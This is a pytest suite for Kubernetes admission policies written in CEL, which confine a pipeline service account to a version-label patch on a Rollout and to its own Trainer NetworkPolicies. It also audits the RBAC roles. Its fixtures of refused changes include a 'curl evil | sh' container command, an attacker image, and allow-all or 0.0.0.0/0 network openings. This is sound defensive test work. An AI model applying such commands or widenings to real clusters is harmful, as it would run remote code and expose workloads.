"""The write rights of the pipeline's service account, narrowed past what RBAC can say (issue 42,
item 12): ValidatingAdmissionPolicies (admissionregistration.k8s.io/v1, CEL) that hold the
release to the Rollout's version label
(deploy/serving/k8s/rollout/common/release-admission.yaml) and the Trainer step to its own jobs'
NetworkPolicies (deploy/training/networkpolicy-admission.yaml).

The policies are validated against Kubernetes' own schema (kubernetes-validate --strict, as the
other manifests), and their CEL is compiled and evaluated with cel-python as the API server
evaluates a policy: the request must match the resource rules and every match condition, the
variables are evaluated in order, and a validation that is false or errs denies the request
(failurePolicy Fail, validationActions Deny). cel-python does not type-check against the
objects' OpenAPI schemas as the API server does: the expressions keep to what both accept (has,
==, in, all on maps, matches, size, string concatenation; no optionals or string extensions).
"""
from __future__ import annotations

import copy
import re
from pathlib import Path

import pytest

from tests.deploy.test_rollout import VARIANTS, VERSION_LABEL, variant_object
from tests.deploy.test_serving_artifacts import load_yaml_docs
from tests.helpers import dump_yaml, kubernetes_validate

REPO = Path(__file__).resolve().parents[2]
RELEASE_POLICY = REPO / "deploy" / "serving" / "k8s" / "rollout" / "common" / \
    "release-admission.yaml"
TRAINER_POLICY = REPO / "deploy" / "training" / "networkpolicy-admission.yaml"
ROLLOUT_CRD = REPO / "deploy" / "crds" / "argo-rollouts-v1.9.1" / "rollout-crd.yaml"
FLINK_POLICIES = REPO / "deploy" / "flink" / "network-policy.yaml"
RUNNER = "system:serviceaccount:kubeflow:pipeline-runner"
WRITES = {"create", "update", "patch", "delete", "deletecollection", "*"}
UNMATCHED = "not matched"


def policy(path: Path) -> dict:
    return next(d for d in load_yaml_docs(path) if d["kind"] == "ValidatingAdmissionPolicy")


def expressions(doc: dict) -> list[str]:
    spec = doc["spec"]
    return ([c["expression"] for c in spec.get("matchConditions", [])]
            + [v["expression"] for v in spec.get("variables", [])]
            + [v[key] for v in spec["validations"] for key in ("expression", "messageExpression")
               if key in v])


def _program(expression: str):
    import celpy

    env = celpy.Environment()
    return env.program(env.compile(expression))


def _true(program, activation) -> bool:
    import celpy

    try:
        result = program.evaluate(activation)
    except celpy.CELEvalError:
        return False
    return isinstance(result, celpy.celtypes.BoolType) and bool(result)


def admit(doc: dict, operation: str, group: str, resource: str, username: str = RUNNER,
          new: dict | None = None, old: dict | None = None, sub_resource: str = ""):
    """UNMATCHED, or the messages of the validations that deny the request ([]: admitted)."""
    import celpy

    spec = doc["spec"]
    full = resource + (f"/{sub_resource}" if sub_resource else "")
    if not any(operation in rule["operations"] and group in rule["apiGroups"]
               and (full in rule["resources"] or (sub_resource and f"{resource}/*" in
                                                  rule["resources"]))
               for rule in spec["matchConstraints"]["resourceRules"]):
        return UNMATCHED
    request = {"operation": operation, "subResource": sub_resource,
               "userInfo": {"username": username}}
    values = {"request": request, "object": new, "oldObject": old}
    activation = {key: celpy.json_to_cel(value) for key, value in values.items()}
    if not all(_true(_program(c["expression"]), activation)
               for c in spec.get("matchConditions", [])):
        return UNMATCHED
    variables = {}
    for variable in spec.get("variables", []):
        activation["variables"] = celpy.celtypes.MapType(variables)
        try:
            variables[celpy.celtypes.StringType(variable["name"])] = _program(
                variable["expression"]).evaluate(activation)
        except celpy.CELEvalError as error:
            variables[celpy.celtypes.StringType(variable["name"])] = error
    activation["variables"] = celpy.celtypes.MapType(variables)
    return [v.get("message") or v["messageExpression"] for v in spec["validations"]
            if not _true(_program(v["expression"]), activation)]


# --------------------------------------------------------------------------------------------
# schema and compilation


def test_the_policies_pass_kubernetes_schema_and_a_broken_one_does_not(tmp_path):
    result = kubernetes_validate([RELEASE_POLICY, TRAINER_POLICY])
    assert result.returncode == 0, result.stdout + result.stderr
    broken = copy.deepcopy(load_yaml_docs(RELEASE_POLICY))
    broken[0]["spec"]["validations"][0]["expresion"] = "true"  # a typo Strict refuses
    broken[1]["spec"]["validationActions"] = "Deny"  # a string, not a list
    for i, doc in enumerate(broken):
        (tmp_path / f"{i}.yaml").write_text(dump_yaml(doc))
    result = kubernetes_validate(sorted(tmp_path.glob("*.yaml")))
    assert result.returncode != 0
    assert "expresion" in result.stdout and "validationActions" in result.stdout, result.stdout


@pytest.mark.parametrize("path", [RELEASE_POLICY, TRAINER_POLICY], ids=lambda p: p.name)
def test_every_expression_compiles_and_each_binding_denies(path):
    import celpy

    docs = {d["kind"]: d for d in load_yaml_docs(path)}
    for expression in expressions(docs["ValidatingAdmissionPolicy"]):
        _program(expression)
    with pytest.raises(celpy.CELParseError):
        _program(expressions(docs["ValidatingAdmissionPolicy"])[-2] + " &&")
    binding = docs["ValidatingAdmissionPolicyBinding"]["spec"]
    assert binding["policyName"] == docs["ValidatingAdmissionPolicy"]["metadata"]["name"]
    assert binding["validationActions"] == ["Deny"]
    assert "matchResources" not in binding  # every namespace
    assert docs["ValidatingAdmissionPolicy"]["spec"]["failurePolicy"] == "Fail"


def test_the_release_policy_compares_every_field_of_the_rollout_spec():
    """A spec field the policy does not compare could be changed by the release: the list in the
    policy is the vendored CRD's (a field the CRD does not name is pruned)."""
    crd = next(d for d in load_yaml_docs(ROLLOUT_CRD) if d["spec"]["names"]["kind"] == "Rollout")
    fields = set(crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"][
        "properties"])
    text = " ".join(expressions(policy(RELEASE_POLICY)))
    compared = set(re.findall(r"object\.spec\.(\w+) == oldObject\.spec\.\1\b", text))
    assert compared | {"template"} == fields
    template = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"][
        "properties"]["template"]["properties"]
    assert set(template) == {"metadata", "spec"}
    assert set(template["metadata"]["properties"]) == {"labels", "annotations"}


# --------------------------------------------------------------------------------------------
# the release and the Rollout


def released(variant: str) -> tuple[dict, dict]:
    """(the Rollout before, after) the real release step's patch, through the fake API server of
    tests/pipeline/test_release.py (RBAC and the CRD schema enforced)."""
    import threading

    from pipeline import release
    from tests.pipeline.test_release import NAMESPACE, TOKEN, FakeKubernetes, rbac

    rollout = variant_object(variant, "Rollout")
    rollout["metadata"]["namespace"] = NAMESPACE
    rollout["metadata"]["annotations"] = {"kubectl.kubernetes.io/last-applied-configuration": "{}"}
    rollout["spec"]["template"]["metadata"]["labels"][VERSION_LABEL] = "1717171717"
    rollout["status"] = {"stableRS": "abc", "currentPodHash": "abc", "phase": "Healthy"}
    server = FakeKubernetes(copy.deepcopy(rollout), rbac()[0])
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    try:
        name = rollout["metadata"]["name"]
        outcome = release.release(release.Cluster(server.url, TOKEN), NAMESPACE, name,
                                  "1717258117")
        assert outcome.action == "released"
        return rollout, server.objects[(NAMESPACE, "rollouts", name)]
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("variant", sorted(VARIANTS))
def test_the_release_steps_patch_is_admitted(variant):
    old, new = released(variant)
    assert new["spec"]["template"]["metadata"]["labels"][VERSION_LABEL] == "1717258117"
    assert new["metadata"]["annotations"]["tf-serving/stable-model-version"] == "1717171717"
    assert admit(policy(RELEASE_POLICY), "UPDATE", "argoproj.io", "rollouts", new=new,
                 old=old) == []


def _container(rollout):
    return rollout["spec"]["template"]["spec"]["containers"][0]


REFUSED_ROLLOUT_CHANGES = {
    "image": lambda r: _container(r).update(image="attacker/serving:latest"),
    "command": lambda r: _container(r).update(command=["/bin/sh", "-c", "curl evil | sh"]),
    "env": lambda r: _container(r).setdefault("env", []).append({"name": "X", "value": "1"}),
    "replicas": lambda r: r["spec"].update(replicas=50),
    "canary-steps": lambda r: r["spec"]["strategy"]["canary"].update(steps=[{"setWeight": 100}]),
    "paused": lambda r: r["spec"].update(paused=True),
    "another-pod-label": lambda r: r["spec"]["template"]["metadata"]["labels"].update(
        {"tf-serving/client": "true"}),
    "pod-label-removed": lambda r: r["spec"]["template"]["metadata"]["labels"].pop(
        "app.kubernetes.io/name"),
    "pod-annotation": lambda r: r["spec"]["template"]["metadata"].setdefault(
        "annotations", {}).update({"sidecar.istio.io/inject": "false"}),
    "version-not-digits": lambda r: r["spec"]["template"]["metadata"]["labels"].update(
        {VERSION_LABEL: "latest"}),
    "version-label-removed": lambda r: r["spec"]["template"]["metadata"]["labels"].pop(
        VERSION_LABEL),
    "rollout-label": lambda r: r["metadata"]["labels"].update({"team": "other"}),
    "another-annotation": lambda r: r["metadata"]["annotations"].update(
        {"kubectl.kubernetes.io/last-applied-configuration": "{\"spec\": {}}"}),
    "finalizer": lambda r: r["metadata"].update(finalizers=["example.com/hold"]),
}


@pytest.mark.parametrize("change", sorted(REFUSED_ROLLOUT_CHANGES))
def test_a_release_patch_beyond_the_version_label_is_denied(change):
    old, new = released("istio")
    REFUSED_ROLLOUT_CHANGES[change](new)
    denied = admit(policy(RELEASE_POLICY), "UPDATE", "argoproj.io", "rollouts", new=new, old=old)
    assert denied and denied != UNMATCHED, change
    # The same change by anyone else (the Argo Rollouts controller, an operator) is not this
    # policy's business: it matches the release's service account only.
    assert admit(policy(RELEASE_POLICY), "UPDATE", "argoproj.io", "rollouts",
                 username="system:serviceaccount:argo-rollouts:argo-rollouts", new=new,
                 old=old) == UNMATCHED


def test_the_release_account_may_not_delete_scale_or_create_rollouts():
    old, new = released("replicas")
    doc = policy(RELEASE_POLICY)
    assert admit(doc, "DELETE", "argoproj.io", "rollouts", old=old)
    assert admit(doc, "CREATE", "argoproj.io", "rollouts", new=new)
    scaled = copy.deepcopy(old)
    scaled["spec"]["replicas"] = 9
    assert admit(doc, "UPDATE", "argoproj.io", "rollouts", new=scaled, old=old,
                 sub_resource="scale")


# --------------------------------------------------------------------------------------------
# the Trainer step and NetworkPolicies


def trainer_policies() -> list[dict]:
    """The NetworkPolicies the Trainer step creates (executor.network_policy) for a TFJob and a
    TrainJob, on TensorFlow's port and on any port (NCCL)."""
    from pipeline.kubeflow.training_job.manifest import job_name, network_policy

    name = job_name("gs://bucket/pipeline-root/Trainer/model/42")
    return [network_policy({"kind": kind, "metadata": {
        "name": name, "namespace": "kubeflow",
        "labels": {"app.kubernetes.io/part-of": "my-pipeline"}}}, any_port=any_port)
        for kind in ("TFJob", "TrainJob") for any_port in (False, True)]


def np_admit(operation, new=None, old=None, username=RUNNER):
    return admit(policy(TRAINER_POLICY), operation, "networking.k8s.io", "networkpolicies",
                 username=username, new=new, old=old)


def test_the_trainer_steps_own_policies_are_admitted():
    policies = trainer_policies()
    assert len({p["metadata"]["name"] for p in policies}) == 1
    for body in policies:
        assert np_admit("CREATE", new=body) == [], body
        owned = copy.deepcopy(body)  # own_policy: the job becomes the owner
        owned["metadata"]["ownerReferences"] = [{"apiVersion": "kubeflow.org/v1",
                                                 "kind": "TFJob", "name": "x", "uid": "u"}]
        assert np_admit("UPDATE", new=owned, old=body) == []
        assert np_admit("DELETE", old=owned) == []


def flink_policy(name: str) -> dict:
    return next(d for d in load_yaml_docs(FLINK_POLICIES) if d["metadata"]["name"] == name)


def _allow_all(body):
    body["spec"]["ingress"] = [{}]


REFUSED_CREATES = {
    "flink-allow-all": lambda b: b.update(metadata={"name": "open-flink", "namespace": "kubeflow"},
                                          spec={"podSelector": {"matchLabels": {"app": "flink"}},
                                                "ingress": [{}], "policyTypes": ["Ingress"]}),
    "own-name-flink-pods": lambda b: b["spec"].update(
        podSelector={"matchLabels": {"app": "tfx-beam-flink", "component": "jobmanager"}}),
    "another-jobs-pods": lambda b: b["spec"]["podSelector"]["matchLabels"].update(
        {"training.kubeflow.org/job-name": "trainer-000000000000"}),
    "every-pod": lambda b: b["spec"].update(podSelector={}),
    "match-expressions": lambda b: b["spec"]["podSelector"].update(matchExpressions=[
        {"key": "app", "operator": "Exists"}]),
    "from-everywhere": _allow_all,
    "from-an-ip-block": lambda b: b["spec"]["ingress"][0]["from"].append(
        {"ipBlock": {"cidr": "0.0.0.0/0"}}),
    "from-another-namespace": lambda b: b["spec"]["ingress"][0]["from"][0].update(
        namespaceSelector={}),
    "from-every-pod": lambda b: b["spec"]["ingress"][0]["from"][0].update(podSelector={}),
    "all-ports": lambda b: b["spec"]["ingress"][0].pop("ports"),
    "another-port": lambda b: b["spec"]["ingress"][0]["ports"][0].update(port=8081),
    "a-port-range": lambda b: b["spec"]["ingress"][0]["ports"][0].update(endPort=9000),
    "egress": lambda b: b["spec"].update(policyTypes=["Ingress", "Egress"], egress=[{}]),
    "a-second-rule": lambda b: b["spec"]["ingress"].append({}),
}


@pytest.mark.parametrize("change", sorted(REFUSED_CREATES))
def test_any_other_networkpolicy_write_is_denied(change):
    body = copy.deepcopy(trainer_policies()[0])
    REFUSED_CREATES[change](body)
    denied = np_admit("CREATE", new=body)
    assert denied and denied != UNMATCHED, change
    assert np_admit("CREATE", new=body, username="admin") == UNMATCHED


@pytest.mark.parametrize("name", ["tfx-beam-flink", "beam-flink-job-server"])
def test_the_flink_fences_cannot_be_patched_or_deleted(name):
    fence = flink_policy(name)
    opened = copy.deepcopy(fence)
    _allow_all(opened)
    assert np_admit("UPDATE", new=opened, old=fence)
    assert np_admit("DELETE", old=fence)


def test_the_step_cannot_widen_its_own_policy_by_a_patch():
    body = trainer_policies()[0]
    widened = copy.deepcopy(body)
    widened["spec"]["ingress"][0]["ports"] = [{"protocol": "TCP"}]  # any_port, after the fact
    assert np_admit("UPDATE", new=widened, old=body)


# --------------------------------------------------------------------------------------------
# the Roles


def _deploy_docs() -> list[dict]:
    return [doc for path in sorted((REPO / "deploy").rglob("*.yaml")) if "crds" not in path.parts
            for doc in load_yaml_docs(path) if isinstance(doc, dict) and "kind" in doc]


def _grants(rule: dict, group: str, resource: str) -> set:
    if ({group, "*"} & set(rule.get("apiGroups", []))
            and {resource, "*"} & set(rule.get("resources", []))):
        return set(rule.get("verbs", []))
    return set()


def _usernames(docs: list, role: dict) -> set:
    return {f"system:serviceaccount:{s.get('namespace', '')}:{s['name']}"
            for d in docs if d["kind"] in ("RoleBinding", "ClusterRoleBinding")
            and d["roleRef"]["name"] == role["metadata"]["name"]
            and d["roleRef"]["kind"] == role["kind"]
            for s in d.get("subjects", []) if s["kind"] == "ServiceAccount"}


def _held(docs: list, group: str, resource: str, username: str) -> bool:
    """A policy with a Deny binding matches this account's writes of the resource."""
    bound = {d["spec"]["policyName"] for d in docs if d["kind"] ==
             "ValidatingAdmissionPolicyBinding" and "Deny" in d["spec"]["validationActions"]}
    for doc in docs:
        if doc["kind"] != "ValidatingAdmissionPolicy" or doc["metadata"]["name"] not in bound:
            continue
        rules = doc["spec"]["matchConstraints"]["resourceRules"]
        if not any(group in r["apiGroups"] and resource in r["resources"]
                   and {"CREATE", "UPDATE", "DELETE"} <= set(r["operations"]) for r in rules):
            continue
        import celpy

        activation = {"request": celpy.json_to_cel({"userInfo": {"username": username}})}
        if all(_true(_program(c["expression"]), activation)
               for c in doc["spec"].get("matchConditions", [])):
            return True
    return False


def test_no_role_writes_networkpolicies_or_rollouts_beyond_what_the_steps_do():
    """Writes on NetworkPolicies: the Trainer step's create, patch (its ownerReferences) and
    delete only, for accounts an admission policy holds to the job's own policy; on Rollouts:
    patch of one named Rollout, for accounts held to the version label. Nothing else in deploy/
    grants either (no wildcard, no update, no deletecollection)."""
    docs = _deploy_docs()
    roles = [d for d in docs if d["kind"] in ("Role", "ClusterRole")]
    assert roles
    seen = {"networkpolicies": 0, "rollouts": 0}
    for role in roles:
        for rule in role.get("rules", []):
            for group, resource, allowed in (("networking.k8s.io", "networkpolicies",
                                              {"create", "patch", "delete"}),
                                             ("argoproj.io", "rollouts", {"patch"})):
                writes = _grants(rule, group, resource) & WRITES
                if not writes:
                    continue
                seen[resource] += 1
                where = f"{role['kind']} {role['metadata']['name']}"
                assert writes <= allowed, f"{where} may {sorted(writes - allowed)} {resource}"
                assert "*" not in rule["apiGroups"] + rule["resources"], where
                if resource == "rollouts":
                    assert rule.get("resourceNames"), f"{where}: patch on every Rollout"
                users = _usernames(docs, role)
                assert users, f"{where} is bound to no service account here"
                for user in users:
                    assert _held(docs, group, resource, user), (
                        f"{where} lets {user} write {resource} and no admission policy holds it")
    assert seen == {"networkpolicies": 1, "rollouts": 1}
